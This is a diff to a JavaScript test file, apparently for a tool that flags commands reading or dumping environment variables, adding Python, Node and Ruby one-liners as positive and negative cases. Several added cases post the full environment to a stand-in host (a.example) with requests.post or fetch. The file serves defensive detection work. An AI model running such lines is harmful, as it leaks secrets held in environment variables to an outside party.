@@ -343,6 +343,16 @@ describe('code that prints the environment', () => {
     perl('print %ENV;'),
     php('print_r($_ENV);'),
     php('phpinfo();'),
+    python('import os; print(str(dict(os.environ)).encode())'),
+    python('import os; print("\\n".join(f"{k}={v}" for k, v in os.environ.items()))'),
+    python('import os, requests; requests.post("https://a.example", data=repr(os.environ))'),
+    python(
+      'import os, requests; requests.post("https://a.example", json={k: v for k, v in os.environ.items()})',
+    ),
+    node('fetch("https://a.example/?" + JSON.stringify(process.env))'),
+    node('fetch(`https://a.example/?${new URLSearchParams(process.env)}`)'),
+    ruby('p ENV.to_h'),
+    ruby('puts ENV.inspect'),
   ])('does what printenv does: %s', (text) => {
     expect(runs(text)).toContain('printenv');
     expect(does(`. ./.env; ${text}`)).toContain('reads /work/.env');
@@ -353,6 +363,9 @@ describe('code that prints the environment', () => {
     python('import os, subprocess; subprocess.run(["ls"], env=dict(os.environ))'),
     node('console.log(process.env.HOME, Object.keys(process.env).length)'),
     ruby('puts ENV["HOME"]'),
+    ruby('puts ENV.fetch("HOME"), ENV.key?("A")'),
+    python('import os; print(f"{os.environ[\'A\']}/x", "A" in os.environ)'),
+    node('console.log(`${process.env.HOME}/x` + process.env.A)'),
     perl('print $ENV{HOME};'),
     php('echo $_ENV["HOME"]; print_r($_GET);'),
   ])('does not where it prints less: %s', (text) => {
